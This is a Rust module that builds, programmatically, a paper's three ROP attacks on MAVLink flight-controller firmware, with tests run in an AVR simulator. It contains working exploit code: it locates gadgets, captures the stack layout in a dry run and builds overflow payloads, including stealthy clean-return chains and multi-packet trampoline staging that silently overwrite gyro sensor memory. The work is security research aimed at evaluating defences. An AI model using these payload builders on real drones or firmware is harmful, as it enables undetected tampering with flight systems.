//! The paper's three ROP attacks, built programmatically against a concrete
//! firmware image (§IV).
//!
//! The attacker's workflow, reproduced faithfully:
//!
//! 1. **Static analysis** of the unprotected image: find the `stk_move` and
//!    `write_mem` gadgets ([`crate::scanner::classify`]).
//! 2. **Dry run** on the attacker's own copy of the firmware
//!    ([`AttackContext::discover`]): send a benign PARAM_SET, break at the
//!    vulnerable handler, and record the deterministic stack geometry —
//!    where the buffer sits, where the saved registers and the 3-byte
//!    return address live, and what their original values are.
//! 3. **Payload construction**: an oversized PARAM_SET payload that the
//!    vulnerable copy loop writes across the handler's stack frame. The
//!    overwritten saved registers and return address redirect the epilogue
//!    into a gadget chain built from exactly the two gadgets of
//!    Figs. 4 and 5.
//!
//! The chain formats follow the paper:
//! * **V1** ([`AttackContext::v1_payload`]) writes 3 bytes anywhere, then
//!   crashes (the stack frame is destroyed — §IV-C).
//! * **V2** ([`AttackContext::v2_payload`]) performs its writes, then
//!   *repairs* the saved registers and return address with the same
//!   `write_mem_gadget` and moves SP back with `stk_move`, so the victim
//!   continues executing ("clean return", §IV-D, Fig. 6).
//! * **V3** ([`AttackContext::v3_packets`]) uses the trampoline technique
//!   (§IV-E): a series of clean-return packets stage an arbitrarily large
//!   second-stage chain into free SRAM; a final packet pivots SP onto it,
//!   runs it, repairs, and returns.

use avr_core::image::FirmwareImage;
use avr_sim::{Machine, RunExit};
use mavlink_lite::GroundStation;
use telemetry::{Telemetry, Value};

use crate::scanner::{classify, GadgetMap};

/// Maximum MAVLink payload, hence maximum overflow length per packet.
const MAX_PAYLOAD: usize = 255;
/// Handler stack frame size (matches the avr-gcc frame shape of the
/// target; the attacker reads it off the prologue's `subi` immediate).
const FRAME: u16 = 192;
/// Offset of the overwritten return address from the buffer start.
const RET_OFF: usize = FRAME as usize + 3;
/// Bytes of one gadget "pop block": r29, r28, then r17..r4.
const POP_BLOCK: usize = 16;
/// Bytes one chained write costs: a pop block plus the next gadget address.
const WRITE_COST: usize = POP_BLOCK + 3;

/// Which attack variant a payload implements.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AttackKind {
    /// Basic ROP: write memory, then crash (§IV-C).
    V1,
    /// Stealthy, small payload with clean return (§IV-D).
    V2,
    /// Stealthy, arbitrarily large payload via trampoline (§IV-E).
    V3 {
        /// Free-SRAM address for the staged second-stage chain.
        staging: u16,
    },
}

impl AttackKind {
    /// Free-SRAM staging base the CLI and fleet scenarios use for V3 when
    /// none is specified (inside the `v3_packets` validity window).
    pub const DEFAULT_STAGING: u16 = 0x1400;

    /// Stable scenario name (`v1-crash`, `v2-stealthy`, `v3-trampoline`).
    pub fn name(&self) -> &'static str {
        match self {
            AttackKind::V1 => "v1-crash",
            AttackKind::V2 => "v2-stealthy",
            AttackKind::V3 { .. } => "v3-trampoline",
        }
    }
}

impl std::str::FromStr for AttackKind {
    type Err = String;

    /// Parse a scenario spelling: `v1`/`crash`, `v2`/`stealthy`,
    /// `v3`/`trampoline` (V3 with [`AttackKind::DEFAULT_STAGING`]).
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s {
            "v1" | "crash" | "v1-crash" => Ok(AttackKind::V1),
            "v2" | "stealthy" | "v2-stealthy" => Ok(AttackKind::V2),
            "v3" | "trampoline" | "v3-trampoline" => Ok(AttackKind::V3 {
                staging: AttackKind::DEFAULT_STAGING,
            }),
            other => Err(format!(
                "unknown attack kind `{other}` (v1|crash, v2|stealthy, v3|trampoline)"
            )),
        }
    }
}

/// Errors when building an attack.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum AttackError {
    /// The image lacks one of the required gadget shapes.
    GadgetsMissing,
    /// The dry run never reached the vulnerable handler.
    DiscoveryFailed(String),
    /// The requested chain does not fit in one MAVLink payload.
    PayloadTooLong {
        /// Bytes needed.
        needed: usize,
    },
    /// V3 staging area would collide with firmware state or the stack.
    BadStagingArea {
        /// The offending address.
        addr: u16,
    },
}

impl std::fmt::Display for AttackError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            AttackError::GadgetsMissing => write!(f, "required gadget shapes not found"),
            AttackError::DiscoveryFailed(why) => write!(f, "dry run failed: {why}"),
            AttackError::PayloadTooLong { needed } => {
                write!(
                    f,
                    "chain needs {needed} bytes, payload limit is {MAX_PAYLOAD}"
                )
            }
            AttackError::BadStagingArea { addr } => {
                write!(f, "staging area {addr:#x} collides with firmware state")
            }
        }
    }
}

impl std::error::Error for AttackError {}

/// Everything the attacker learns about the target before sending a packet.
#[derive(Debug, Clone, Copy)]
pub struct AttackContext {
    /// The two classified gadgets.
    pub gadgets: GadgetMap,
    /// SP at handler entry.
    pub sp_entry: u16,
    /// Frame pointer (Y) inside the handler = `sp_entry - 35`.
    pub y_frame: u16,
    /// SRAM address of the vulnerable stack buffer (`y_frame + 1`).
    pub buffer: u16,
    /// Original return address bytes, in stack order (PC high, mid, low).
    pub orig_ret: [u8; 3],
    /// Original saved r28 (restored on clean return).
    pub orig_r28: u8,
    /// Original saved r29.
    pub orig_r29: u8,
    /// Original saved r16.
    pub orig_r16: u8,
}

/// Return-address bytes for a gadget at `byte_addr`, in stack order
/// (PC bits 16+, bits 15..8, bits 7..0).
fn addr3(byte_addr: u32) -> [u8; 3] {
    let w = byte_addr / 2;
    [(w >> 16) as u8, (w >> 8) as u8, w as u8]
}

/// One 16-byte pop block: values for r29, r28, then r17 down to r4.
/// `vals`, if given, land in r5/r6/r7 — the bytes the next `std Y+1..Y+3`
/// will store.
fn pop_block(y_ptr: u16, vals: Option<[u8; 3]>, fill: u8) -> [u8; POP_BLOCK] {
    let mut b = [fill; POP_BLOCK];
    b[0] = (y_ptr >> 8) as u8; // r29
    b[1] = (y_ptr & 0xff) as u8; // r28
    if let Some(v) = vals {
        // Pop order after r28 is r17..r4; r7 is index 2+10, r6 2+11, r5 2+12.
        b[12] = v[2]; // r7 -> Y+3
        b[13] = v[1]; // r6 -> Y+2
        b[14] = v[0]; // r5 -> Y+1
    }
    b
}

impl AttackContext {
    /// Perform the attacker's static analysis and dry run against their own
    /// copy of `image`.
    pub fn discover(image: &FirmwareImage) -> Result<Self, AttackError> {
        Self::discover_with(image, &Telemetry::off())
    }

    /// Like [`AttackContext::discover`], narrating each attack stage —
    /// gadget scan, dry run, geometry capture — onto `telemetry`.
    pub fn discover_with(
        image: &FirmwareImage,
        telemetry: &Telemetry,
    ) -> Result<Self, AttackError> {
        let fail = |stage: &'static str, err: AttackError| {
            telemetry.emit("attack.stage_failed", None, || {
                vec![
                    ("stage", Value::Str(stage.into())),
                    ("error", Value::Str(err.to_string())),
                ]
            });
            err
        };
        let gadgets = match classify(image) {
            Some(g) => g,
            None => return Err(fail("scan", AttackError::GadgetsMissing)),
        };
        telemetry.emit("attack.scan", None, || {
            vec![
                ("stk_move", Value::U64(u64::from(gadgets.stk_move))),
                (
                    "write_mem_pop",
                    Value::U64(u64::from(gadgets.write_mem_pop)),
                ),
                (
                    "write_mem_std",
                    Value::U64(u64::from(gadgets.write_mem_std)),
                ),
            ]
        });
        let handler = match image.symbol("handle_param_set") {
            Some(s) => s.addr,
            None => {
                return Err(fail(
                    "dry-run",
                    AttackError::DiscoveryFailed("no handler symbol".into()),
                ))
            }
        };

        let mut m = Machine::new_atmega2560();
        m.load_flash(0, &image.bytes);
        // Boot a couple of loop iterations.
        if let RunExit::Faulted(f) = m.run(200_000) {
            return Err(fail(
                "dry-run",
                AttackError::DiscoveryFailed(format!("boot fault: {f}")),
            ));
        }
        m.add_breakpoint(handler);
        let mut gcs = GroundStation::new();
        m.uart0.inject(&gcs.param_set(b"PROBE", 0.0));
        match m.run(2_000_000) {
            RunExit::Breakpoint { addr } if addr == handler => {}
            other => {
                return Err(fail(
                    "dry-run",
                    AttackError::DiscoveryFailed(format!("never reached handler: {other:?}")),
                ))
            }
        }
        let sp_entry = m.sp();
        let y_frame = sp_entry - FRAME - 3;
        let orig_ret = [
            m.peek_data(sp_entry + 1),
            m.peek_data(sp_entry + 2),
            m.peek_data(sp_entry + 3),
        ];
        telemetry.emit("attack.discovery", Some(m.cycles()), || {
            vec![
                ("handler", Value::U64(u64::from(handler))),
                ("sp_entry", Value::U64(u64::from(sp_entry))),
                ("buffer", Value::U64(u64::from(y_frame + 1))),
                (
                    "orig_ret",
                    Value::U64(
                        (u64::from(orig_ret[0]) << 16)
                            | (u64::from(orig_ret[1]) << 8)
                            | u64::from(orig_ret[2]),
                    ),
                ),
            ]
        });
        Ok(AttackContext {
            gadgets,
            sp_entry,
            y_frame,
            buffer: y_frame + 1,
            orig_ret,
            orig_r28: m.reg(avr_core::Reg::R28),
            orig_r29: m.reg(avr_core::Reg::R29),
            orig_r16: m.reg(avr_core::Reg::R16),
        })
    }

    /// Build the full overflow payload, the paper's way (§IV-D): the gadget
    /// chain sits at the **beginning of the buffer**; the bytes the handler
    /// epilogue pops into r28/r29 hold a pivot address, and the overwritten
    /// return address points at `stk_move`, which moves SP to the pivot so
    /// the chain executes out of the buffer. (Placing the chain *above* the
    /// return address would run past RAMEND — the handler frame sits near
    /// the top of SRAM.)
    fn overflow(&self, chain: &[u8], pivot: u16) -> Result<Vec<u8>, AttackError> {
        if chain.len() > FRAME as usize {
            return Err(AttackError::PayloadTooLong {
                needed: chain.len() + 6,
            });
        }
        let mut p = chain.to_vec();
        p.resize(FRAME as usize, 0x61);
        // Popped into r28, r29, r16 by the handler epilogue.
        p.push((pivot & 0xff) as u8);
        p.push((pivot >> 8) as u8);
        p.push(0x41);
        // Overwritten return address -> stk_move pivots SP to `pivot`.
        p.extend_from_slice(&addr3(self.gadgets.stk_move));
        debug_assert_eq!(p.len(), RET_OFF + 3);
        Ok(p)
    }

    /// Chain header: three bytes consumed by `stk_move`'s own pops, then the
    /// first real gadget address for its `ret`.
    fn chain_head(&self, first_gadget: u32) -> Vec<u8> {
        let mut c = vec![0x51, 0x52, 0x53];
        c.extend_from_slice(&addr3(first_gadget));
        c
    }

    /// Append a chain of `write_mem` stores followed by a final `stk_move`
    /// to `payload`. Layout per write: a pop block (consumed by the
    /// previous gadget's pop run) + the next gadget address.
    fn push_write_chain(
        &self,
        payload: &mut Vec<u8>,
        writes: &[(u16, [u8; 3])],
        final_sp: u16,
        final_gadget: u32,
    ) {
        for (target, vals) in writes {
            // The pop block is consumed by the *previous* gadget's pop run
            // (the first one by the wm pop-half entered from the overwritten
            // return address); the std half then performs this write.
            payload.extend_from_slice(&pop_block(target - 1, Some(*vals), 0x62));
            payload.extend_from_slice(&addr3(self.gadgets.write_mem_std));
        }
        // Final block: loads r29:r28 with the pivot SP for stk_move.
        payload.extend_from_slice(&pop_block(final_sp, None, 0x63));
        payload.extend_from_slice(&addr3(final_gadget));
    }

    /// Forensics annotations for the gadget addresses this chain returns
    /// through, as `(byte_addr, len, label)` ranges for
    /// `avr_sim::CrashReport::capture`. The addresses are from the
    /// *attacker's* (original-layout) image — on a randomized victim they
    /// land mid-function, which is exactly what the crash report should
    /// call out.
    pub fn annotations(&self) -> Vec<(u32, u32, String)> {
        vec![
            (self.gadgets.stk_move, 2, "gadget:stk_move".to_string()),
            (
                self.gadgets.write_mem_pop,
                2,
                "gadget:write_mem(pop)".to_string(),
            ),
            (
                self.gadgets.write_mem_std,
                2,
                "gadget:write_mem(std)".to_string(),
            ),
        ]
    }

    /// **Attack V1** (§IV-C): write `vals` to `target..target+2`, then let
    /// the corrupted stack crash the board. The ground station will notice;
    /// the paper's motivation for V2.
    pub fn v1_payload(&self, target: u16, vals: [u8; 3]) -> Vec<u8> {
        let mut chain = self.chain_head(self.gadgets.write_mem_pop);
        chain.extend_from_slice(&pop_block(target - 1, Some(vals), 0x42));
        chain.extend_from_slice(&addr3(self.gadgets.write_mem_std));
        // Nothing follows: the std-half's pop run and ret consume garbage
        // buffer fill and return into nowhere.
        self.overflow(&chain, self.buffer - 1)
            .expect("V1 chain is fixed-size")
    }

    /// **Attack V2** (§IV-D): perform `writes`, then repair the smashed
    /// saved registers and return address and resume the victim exactly
    /// where it would have been — the stealthy clean return of Fig. 6.
    pub fn v2_payload(&self, writes: &[(u16, [u8; 3])]) -> Result<Vec<u8>, AttackError> {
        let mut all: Vec<(u16, [u8; 3])> = writes.to_vec();
        // Repair 1: the smashed saved r28/r29/r16 at Y+FRAME+1..+3.
        all.push((
            self.y_frame + FRAME + 1,
            [self.orig_r28, self.orig_r29, self.orig_r16],
        ));
        // Repair 2: the original return address at Y+FRAME+4..+6.
        all.push((self.y_frame + FRAME + 4, self.orig_ret));
        let mut chain = self.chain_head(self.gadgets.write_mem_pop);
        // Pivot back so the final pops and ret consume the repaired frame.
        self.push_write_chain(
            &mut chain,
            &all,
            self.y_frame + FRAME,
            self.gadgets.stk_move,
        );
        self.overflow(&chain, self.buffer - 1)
    }

    /// **Attack V3** (§IV-E): stage `stage2_writes` — arbitrarily many —
    /// into a second-stage chain at `stage2_base` (free SRAM), using as many
    /// clean-return carrier packets as needed; the last packet pivots SP
    /// onto the staged chain. Returns the payloads in send order.
    pub fn v3_packets(
        &self,
        stage2_writes: &[(u16, [u8; 3])],
        stage2_base: u16,
    ) -> Result<Vec<Vec<u8>>, AttackError> {
        // The staging area must not collide with the firmware globals, the
        // receive buffer, or the live stack region.
        if !(0x0c00..=0x1c00).contains(&stage2_base) {
            return Err(AttackError::BadStagingArea { addr: stage2_base });
        }

        // Build the second-stage chain image (same format as an in-buffer
        // chain: stk_move pop bytes, first gadget, then the write blocks).
        let mut stage2 = self.chain_head(self.gadgets.write_mem_pop);
        let mut all: Vec<(u16, [u8; 3])> = stage2_writes.to_vec();
        all.push((
            self.y_frame + FRAME + 1,
            [self.orig_r28, self.orig_r29, self.orig_r16],
        ));
        all.push((self.y_frame + FRAME + 4, self.orig_ret));
        self.push_write_chain(
            &mut stage2,
            &all,
            self.y_frame + FRAME,
            self.gadgets.stk_move,
        );

        // Stage the chain 3 bytes per write, several writes per carrier
        // packet, each carrier doing a clean return.
        let mut packets = Vec::new();
        let mut staged: Vec<(u16, [u8; 3])> = Vec::new();
        for (i, chunk) in stage2.chunks(3).enumerate() {
            let mut v = [0x00u8; 3];
            v[..chunk.len()].copy_from_slice(chunk);
            staged.push((stage2_base + (i * 3) as u16, v));
        }
        // Capacity per carrier chain: head (6) + one block per staged write
        // + two repair writes + the final pivot block, all within FRAME.
        let per_packet = (FRAME as usize - 6 - 3 * WRITE_COST) / WRITE_COST;
        for group in staged.chunks(per_packet) {
            packets.push(self.v2_payload(group)?);
        }

        // Trigger packet: empty chain, pivot straight onto the staged chain
        // (its head bytes feed stk_move's pops and its ret).
        let pivot = stage2_base - 1; // pops start at pivot+1 = stage2_base
        packets.push(self.overflow(&[], pivot)?);
        Ok(packets)
    }
}

impl AttackContext {
    /// Unified entry point: build the packet payload(s) implementing `kind`
    /// for the given 3-byte `writes`. V1 and V2 yield one packet; V3 yields
    /// the carrier sequence plus the trigger.
    pub fn packets(
        &self,
        kind: AttackKind,
        writes: &[(u16, [u8; 3])],
    ) -> Result<Vec<Vec<u8>>, AttackError> {
        match kind {
            AttackKind::V1 => {
                let (target, vals) = writes
                    .first()
                    .copied()
                    .ok_or(AttackError::PayloadTooLong { needed: 0 })?;
                Ok(vec![self.v1_payload(target, vals)])
            }
            AttackKind::V2 => Ok(vec![self.v2_payload(writes)?]),
            AttackKind::V3 { staging } => self.v3_packets(writes, staging),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use synth_firmware::layout as l;
    use synth_firmware::{apps, build, BuildOptions};

    fn victim() -> (Machine, FirmwareImage) {
        let fw = build(&apps::tiny_test_app(), &BuildOptions::vulnerable_mavr()).unwrap();
        let mut m = Machine::new_atmega2560();
        m.load_flash(0, &fw.image.bytes);
        (m, fw.image)
    }

    const LOOP_CYCLES: u64 = 60_000;

    #[test]
    fn discovery_finds_stable_geometry() {
        let (_, image) = victim();
        let a = AttackContext::discover(&image).unwrap();
        let b = AttackContext::discover(&image).unwrap();
        assert_eq!(a.sp_entry, b.sp_entry, "stack geometry is deterministic");
        assert_eq!(a.orig_ret, b.orig_ret);
        assert_eq!(a.buffer, a.y_frame + 1);
        // The return address points back into the rx poll loop.
        let ret_word = (u32::from(a.orig_ret[0]) << 16)
            | (u32::from(a.orig_ret[1]) << 8)
            | u32::from(a.orig_ret[2]);
        let poll = image.symbol("mavlink_rx_poll").unwrap();
        assert!(poll.contains(ret_word * 2), "return lands in rx poll");
    }

    #[test]
    fn v1_sets_sensor_then_crashes() {
        let (mut m, image) = victim();
        let ctx = AttackContext::discover(&image).unwrap();
        m.run(2 * LOOP_CYCLES);
        let mut gcs = GroundStation::new();
        let payload = ctx.v1_payload(l::GYRO + 3, [0xde, 0xad, 0x42]);
        m.uart0.inject(&gcs.exploit_packet(&payload).unwrap());
        let exit = m.run(40 * LOOP_CYCLES);
        assert!(!exit.is_healthy(), "V1 must crash the board: {exit:?}");
        assert_eq!(m.peek_data(l::GYRO + 3), 0xde, "sensor byte overwritten");
        assert_eq!(m.peek_data(l::GYRO + 4), 0xad);
        assert_eq!(m.peek_data(l::GYRO + 5), 0x42);
    }

    #[test]
    fn v2_sets_sensor_and_survives() {
        let (mut m, image) = victim();
        let ctx = AttackContext::discover(&image).unwrap();
        m.run(2 * LOOP_CYCLES);
        let toggles_before = m.heartbeat.toggles.len();
        let mut gcs = GroundStation::new();
        let payload = ctx
            .v2_payload(&[(l::GYRO + 3, [0xde, 0xad, 0x42])])
            .unwrap();
        m.uart0.inject(&gcs.exploit_packet(&payload).unwrap());
        let exit = m.run(40 * LOOP_CYCLES);
        assert_eq!(
            exit,
            RunExit::CyclesExhausted,
            "clean return: {:?}",
            m.fault()
        );
        assert_eq!(m.peek_data(l::GYRO + 3), 0xde);
        assert_eq!(m.peek_data(l::GYRO + 4), 0xad);
        assert_eq!(m.peek_data(l::GYRO + 5), 0x42);
        // The victim kept flying: heartbeats kept toggling, the handler
        // completed ("dispatched" count incremented), telemetry still parses.
        assert!(m.heartbeat.toggles.len() > toggles_before + 20);
        assert_eq!(m.peek_data(l::PARAM_SET_COUNT), 1);
        gcs.ingest(&m.uart0.take_tx());
        assert!(gcs.link_alive(20, 3), "ground station sees a healthy link");
        // And the board still accepts benign commands afterwards.
        m.uart0.inject(&gcs.param_set(b"KP", 2.0));
        m.run(20 * LOOP_CYCLES);
        assert_eq!(m.peek_data(l::PARAM_SET_COUNT), 2);
    }

    #[test]
    fn v2_payload_fits_single_packet() {
        let (_, image) = victim();
        let ctx = AttackContext::discover(&image).unwrap();
        let p = ctx.v2_payload(&[(l::GYRO + 3, [1, 2, 3])]).unwrap();
        assert!(p.len() <= 255);
        // The whole frame is overwritten plus the 6 bytes of saved regs and
        // return address — the chain hides inside the frame.
        assert_eq!(p.len(), 192 + 6);
    }

    #[test]
    fn v3_stages_large_payload_and_survives() {
        let (mut m, image) = victim();
        let ctx = AttackContext::discover(&image).unwrap();
        m.run(2 * LOOP_CYCLES);
        // A "large" second stage: write a 30-byte message into scratch
        // SRAM — 10 writes, more than a single V2 chain could carry along
        // with its repairs.
        let msg: Vec<u8> = (0..30u8).map(|i| 0xc0 + i).collect();
        let dest = 0x1d00u16;
        let writes: Vec<(u16, [u8; 3])> = msg
            .chunks(3)
            .enumerate()
            .map(|(i, c)| (dest + (i * 3) as u16, [c[0], c[1], c[2]]))
            .collect();
        let packets = ctx.v3_packets(&writes, 0x1400).unwrap();
        assert!(packets.len() >= 2, "staging + trigger");
        let mut gcs = GroundStation::new();
        for p in &packets {
            m.uart0.inject(&gcs.exploit_packet(p).unwrap());
            let exit = m.run(40 * LOOP_CYCLES);
            assert_eq!(exit, RunExit::CyclesExhausted, "fault: {:?}", m.fault());
        }
        for (i, &b) in msg.iter().enumerate() {
            assert_eq!(m.peek_data(dest + i as u16), b, "staged byte {i}");
        }
        // Still alive and processing.
        gcs.ingest(&m.uart0.take_tx());
        assert!(gcs.link_alive(20, 3));
        assert_eq!(m.peek_data(l::PARAM_SET_COUNT) as usize, packets.len());
    }

    #[test]
    fn v3_rejects_dangerous_staging_area() {
        let (_, image) = victim();
        let ctx = AttackContext::discover(&image).unwrap();
        assert!(matches!(
            ctx.v3_packets(&[], 0x0300),
            Err(AttackError::BadStagingArea { .. })
        ));
        assert!(matches!(
            ctx.v3_packets(&[], 0x2100),
            Err(AttackError::BadStagingArea { .. })
        ));
    }

    #[test]
    fn unified_packets_api_covers_all_variants() {
        let (_, image) = victim();
        let ctx = AttackContext::discover(&image).unwrap();
        let w = [(l::GYRO + 3, [1u8, 2, 3])];
        assert_eq!(ctx.packets(AttackKind::V1, &w).unwrap().len(), 1);
        assert_eq!(ctx.packets(AttackKind::V2, &w).unwrap().len(), 1);
        let v3 = ctx.packets(AttackKind::V3 { staging: 0x1400 }, &w).unwrap();
        assert!(v3.len() >= 2);
        assert!(ctx.packets(AttackKind::V1, &[]).is_err());
    }

    #[test]
    fn attack_against_safe_build_is_harmless() {
        // Same payload, but the handler clamps the copy: nothing overflows.
        let fw = build(&apps::tiny_test_app(), &BuildOptions::safe_mavr()).unwrap();
        let vuln = build(&apps::tiny_test_app(), &BuildOptions::vulnerable_mavr()).unwrap();
        // Attack built against the vulnerable layout (identical addresses).
        let ctx = AttackContext::discover(&vuln.image).unwrap();
        let mut m = Machine::new_atmega2560();
        m.load_flash(0, &fw.image.bytes);
        m.run(2 * LOOP_CYCLES);
        let mut gcs = GroundStation::new();
        let payload = ctx.v2_payload(&[(l::GYRO + 3, [9, 9, 9])]).unwrap();
        m.uart0.inject(&gcs.exploit_packet(&payload).unwrap());
        let exit = m.run(40 * LOOP_CYCLES);
        assert_eq!(exit, RunExit::CyclesExhausted);
        assert_ne!(m.peek_data(l::GYRO + 3), 9, "sensor untouched");
    }
}
